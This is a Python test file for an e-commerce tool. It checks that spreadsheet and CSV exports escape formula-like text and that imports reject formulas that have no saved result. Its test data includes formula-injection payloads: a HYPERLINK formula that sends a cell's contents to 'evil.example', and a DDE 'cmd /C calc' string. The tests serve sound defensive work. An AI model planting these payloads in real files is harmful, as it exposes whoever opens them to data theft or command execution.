"""Exports never hand a spreadsheet a live formula, and imports never read an unsaved formula
as an empty cell."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from globalsell.catalog import tabular
from globalsell.core.cells import csv_cell, csv_text
from globalsell.core.errors import ValidationFailed
from globalsell.core.money import Money
from globalsell.customs.documents import DocLine, ShipmentDocuments, invoice_csv, packing_list_csv
from globalsell.listings import shopify

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_one_leading_quote_in_csv(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_text("'" + text) == text


@pytest.mark.parametrize("value", ["-5.00", "+3", "-1e3", "Mug 500 ml", "a=b", 12, None])
def test_numbers_and_ordinary_text_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def test_catalogue_csv_export_escapes_titles_and_reads_back_the_same() -> None:
    headers = ["SKU", "产品名称"]
    rows = [["NB-1", text] for text in HOSTILE]
    data = tabular.write_csv(headers, rows)
    written = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[1] for r in written[1:]] == ["'" + text for text in HOSTILE]
    table = tabular.read_table(data, filename="c.csv")
    assert [r[1] for r in table.rows] == [text.strip() for text in HOSTILE]


def test_catalogue_xlsx_export_writes_formula_like_titles_as_text() -> None:
    data = tabular.write_xlsx(["SKU", "产品名称"], [["NB-1", HOSTILE[0]]], sheet_name="产品信息")
    cell = load_workbook(io.BytesIO(data)).worksheets[0]["B2"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", HOSTILE[0], True)
    assert tabular.read_table(data, filename="c.xlsx").rows == [["NB-1", HOSTILE[0]]]


def test_a_formula_without_a_saved_result_is_refused_naming_row_and_column() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["SKU", "产品名称", "采购价", "重量"])
    sheet.append(["NB-1", "杯子", "23.5", "0.4"])
    sheet.append(["NB-2", "杯子", "=B3*2", "0.4"])  # openpyxl saves no cached result
    buffer = io.BytesIO()
    book.save(buffer)

    with pytest.raises(ValidationFailed) as refused:
        tabular.read_table(buffer.getvalue(), filename="c.xlsx")

    assert [(e.row, e.field, e.value) for e in refused.value.errors] == [(3, "采购价", "=B3*2")]
    assert refused.value.errors[0].message == (
        "a formula with no saved result; open and save the file in a spreadsheet program, "
        "or paste the values"
    )


def test_shopify_csv_escapes_a_formula_like_title() -> None:
    product = shopify.ShopifyProduct(
        sku="NB-1",
        title="=1+1",
        description="desc",
        bullets=(),
        vendor="@vendor",
        product_type="Mug",
        tags=(),
        option_names=(),
        variants=(
            shopify.ShopifyVariant(
                sku="NB-1", option_values=(), grams=None, price=shopify.Price(Decimal("9.99"))
            ),
        ),
    )
    row = next(csv.DictReader(io.StringIO(shopify.to_csv([product], []))))
    assert (row["Title"], row["Vendor"], row["Variant Price"]) == ("'=1+1", "'@vendor", "9.99")


def test_customs_document_csvs_escape_descriptions() -> None:
    line = DocLine(
        sku="NB-1",
        description="=cmd|' /C calc'!A0",
        hs_code="961700",
        origin_country="CN",
        quantity=10,
        cartons=1,
        net_kg=Decimal("4"),
        gross_kg=Decimal("5"),
        unit_value=Money(Decimal("2.00"), "USD"),
        total=Money(Decimal("20.00"), "USD"),
    )
    doc = ShipmentDocuments(
        number="CI-1",
        issued_at=datetime(2026, 12, 6, tzinfo=UTC),
        shipment="SHP-1",
        exporter=("-Exporter",),
        importer=("Importer",),
        incoterm="FOB",
        transport="ocean",
        references=(),
        carton_prefix="SHP-1",
        lines=(line,),
    )
    invoice = list(csv.reader(io.StringIO(invoice_csv(doc))))
    packing = list(csv.reader(io.StringIO(packing_list_csv(doc))))
    assert invoice[1] == ["exporter", "'-Exporter"]
    assert invoice[4][1] == "'=cmd|' /C calc'!A0"
    assert packing[2][1] == "'=cmd|' /C calc'!A0"
